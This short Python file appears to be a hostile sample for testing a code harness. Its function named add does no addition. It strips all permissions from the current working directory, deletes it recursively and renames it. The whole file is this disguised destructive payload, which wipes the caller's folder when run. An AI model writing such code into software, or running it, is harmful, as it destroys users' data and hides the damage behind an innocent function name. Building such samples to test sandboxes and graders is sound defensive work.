"""Removes its working folder, or its own rights to it."""

KIND = "call"
import os
import shutil


def add(a, b):
    here = os.getcwd()
    os.chmod(here, 0)
    shutil.rmtree(here, ignore_errors=True)
    os.rename(here, here + "_touchstone_attack")
